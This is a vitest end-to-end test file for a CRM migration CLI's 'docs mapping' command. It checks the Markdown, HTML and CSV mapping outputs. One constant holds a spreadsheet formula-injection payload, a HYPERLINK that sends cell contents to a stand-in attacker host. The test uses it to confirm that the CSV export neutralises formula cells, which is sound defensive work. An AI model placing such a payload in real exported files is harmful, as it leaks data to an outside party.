import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { HtmlValidate } from 'html-validate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCliAsync } from '../run-cli.js';

/**
 * `crm-migrate docs mapping` writes the engagement's field mapping for the admin's review. The Markdown of two pairs
 * is kept as golden files; after an intended change refresh them with
 *   UPDATE_GOLDEN=1 npx vitest run test/e2e/docs-mapping
 * and review the diff like code.
 */
const GOLDEN = join(import.meta.dirname, 'golden');
const DATE = '2026-01-01';
/** A custom column a spreadsheet would run as a formula if the CSV wrote it as it is. */
const FORMULA_COLUMN = '=HYPERLINK("http://evil.example/?"&A1)';

const validator = new HtmlValidate({ extends: ['html-validate:recommended'] });

function expectGolden(name: string, actual: string): void {
  const file = join(GOLDEN, name);
  if (process.env['UPDATE_GOLDEN'] === '1') {
    mkdirSync(GOLDEN, { recursive: true });
    writeFileSync(file, actual);
  }
  expect(existsSync(file), `${file} is missing; run with UPDATE_GOLDEN=1 to write it`).toBe(true);
  expect(actual).toBe(readFileSync(file, 'utf8'));
}

/**
 * Each engagement's decisions, written into migration.yaml by hand as `propose` and `confirm` would leave them: a
 * confirmed custom column, one still proposed, a confirmed stage row that replaces the pair's default, and owners.
 */
const ENGAGEMENTS = [
  {
    pair: 'vtiger--dynamics-365-sales',
    decisions: `customFields:
  - { object: accounts, column: Region, action: create, to: new_region, type: text, maxLength: 50, reason: Free text in every sampled row., status: confirmed }
  - { object: accounts, column: '${FORMULA_COLUMN}', action: create, to: new_formula, type: text, status: proposed }
stageTable:
  - { source: Prospecting, stage: Develop, probability: 15, outcome: Open, status: confirmed }
ownerMap:
  - { source: jdoe, user: jane.doe@example.com, status: confirmed }
  - { source: old.rep, user: '', reason: Left the company., status: proposed }
`,
    defaultStage: 'Prospecting',
    confirmedStage: '| Prospecting | Develop | 15% | Open |',
  },
  {
    pair: 'opencrm--dynamics-365-sales',
    decisions: `customFields:
  - { object: organisation, column: Region, action: create, to: new_region, type: text, maxLength: 50, status: confirmed }
  - { object: organisation, column: '${FORMULA_COLUMN}', action: create, to: new_formula, type: text, status: proposed }
stageTable:
  - { source: Prospect, stage: Develop, probability: 15, outcome: Open, status: confirmed }
ownerMap:
  - { source: Dana Reyes, user: dana@example.com, status: confirmed }
`,
    defaultStage: 'Prospect',
    confirmedStage: '| Prospect | Develop | 15% | Open |',
  },
] as const;

const root = mkdtempSync(join(tmpdir(), 'docs-mapping-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe.each(ENGAGEMENTS)('crm-migrate docs mapping for $pair', ({ pair, decisions, confirmedStage }) => {
  const project = join(root, pair);
  let stdout = '';
  let markdown = '';

  beforeAll(async () => {
    // The document reads the specs and migration.yaml, not the export, so an empty export folder is enough.
    mkdirSync(join(root, `${pair}-export`), { recursive: true });
    const init = await runCliAsync(['init', project, '--pair', pair, '--source', join(root, `${pair}-export`)]);
    expect(init.exitCode, init.stderr).toBe(0);
    writeFileSync(join(project, 'migration.yaml'), `${readFileSync(join(project, 'migration.yaml'), 'utf8')}${decisions}`);
    const result = await runCliAsync(['docs', 'mapping', '--project', project, '--date', DATE]);
    expect(result.exitCode, result.stderr).toBe(0);
    stdout = result.stdout;
    markdown = readFileSync(join(project, 'docs', 'mapping.md'), 'utf8');
  });

  it('writes Markdown, HTML and CSV, and says how many fields and decisions', () => {
    expect(stdout).toMatch(/Wrote the mapping document for .*mapping\.md, .*mapping\.html, .*mapping\.csv/);
    expect(stdout).toMatch(/\d+ mapped fields/);
    expect(stdout).toContain('Still proposed:');
  });

  it('matches the reviewed golden Markdown', () => {
    expectGolden(`${pair}.md`, markdown);
  });

  it('merges the confirmed custom column into its load and the confirmed stage row into the stage table', () => {
    expect(markdown).toMatch(/\| Region \| `new_region` \(New text column\) \| .* \| confirmed \|/);
    expect(markdown).toContain(confirmedStage);
    // The proposed column is listed for review and is not a row of the map.
    expect(markdown).not.toMatch(/\| `new_formula` /);
    expect(markdown.slice(markdown.indexOf('## Awaiting confirmation'))).toContain('new_formula');
  });

  it('gives every lookup its rule for a reference that matches nothing', () => {
    const lookupRows = markdown.split('\n').filter((l) => l.includes('| Linked to the '));
    expect(lookupRows.length).toBeGreaterThan(0);
    for (const row of lookupRows) expect(row).toMatch(/\| Nothing matches: /);
  });

  it('writes a CSV with one row per mapped field whose formula-like cells a spreadsheet shows as text', () => {
    const rows = parse(readFileSync(join(project, 'docs', 'mapping.csv')), { columns: true }) as Record<string, string>[];
    const fieldRows = markdown.split('\n').filter((l) => /\| (pair default|confirmed|proposed) \|$/.test(l));
    expect(rows.length).toBe(fieldRows.length);
    expect(rows.some((r) => r['destination_attribute'] === 'new_region' && r['status'] === 'confirmed')).toBe(true);
    const formulaCells = rows.flatMap((r) => Object.values(r)).filter((v) => /^[=+\-@]/.test(v));
    expect(formulaCells).toEqual([]);
  });

  it('writes HTML that passes html-validate and lays fields out as cards on a phone', async () => {
    const file = join(project, 'docs', 'mapping.html');
    const report = await validator.validateString(readFileSync(file, 'utf8'), file);
    expect(report.results.flatMap((r) => r.messages.map((m) => `${m.line}:${m.column} ${m.ruleId}: ${m.message}`))).toEqual([]);
    const html = readFileSync(file, 'utf8');
    expect(html).toContain('<meta name="viewport" content="width=device-width, initial-scale=1">');
    expect(html.slice(html.indexOf('@media (max-width: 40rem)'))).toMatch(/^@media \(max-width: 40rem\) \{\s+body \{[^}]*\}\s+table\.fields thead \{ position: absolute/);
    expect(html).toContain('data-label="Source column"');
    // Every other table (stages, value tables, owners, pending decisions) scrolls inside its own box on a phone, so
    // the page itself never scrolls sideways (measured at 390 px: 515 px wide before the boxes).
    const tables = html.match(/<table(?: class="[^"]*")?>/g) ?? [];
    const plain = tables.filter((t) => t !== '<table class="fields">');
    expect(plain.length).toBeGreaterThan(2);
    expect(html.match(/<div class="table-scroll">\s*<table>/g) ?? []).toHaveLength(plain.length);
    expect(html).toMatch(/\.table-scroll \{ overflow-x: auto; \}/);
  });
});
